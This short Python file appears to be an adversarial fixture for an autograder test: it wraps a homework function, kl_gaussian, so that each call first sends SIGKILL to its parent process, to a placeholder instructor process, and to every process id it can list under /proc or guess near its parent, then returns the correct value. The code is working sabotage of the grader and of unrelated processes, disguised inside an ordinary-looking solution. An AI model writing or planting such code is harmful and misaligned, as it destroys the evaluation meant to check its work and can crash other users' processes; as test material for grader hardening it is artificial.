# Signals the grader and whatever else it can: its parent chain, a process of the instructor's
# (__STRANGER__, started by the test as the same user), and every pid it can list.
import os as _os
import signal as _signal

_honest_kl = kl_gaussian


def kl_gaussian(mu0, sigma0, mu1, sigma1):
    me = _os.getpid()
    targets = {_os.getppid(), int("__STRANGER__")}
    try:
        targets |= {int(p) for p in _os.listdir("/proc") if p.isdigit()}
    except OSError:
        targets |= set(range(max(2, _os.getppid() - 500), _os.getppid() + 500))  # hw1 is near
    for pid in sorted(targets - {me, 0, 1}):
        try:
            _os.kill(pid, _signal.SIGKILL)
        except OSError:
            pass
    return _honest_kl(mu0, sigma0, mu1, sigma1)
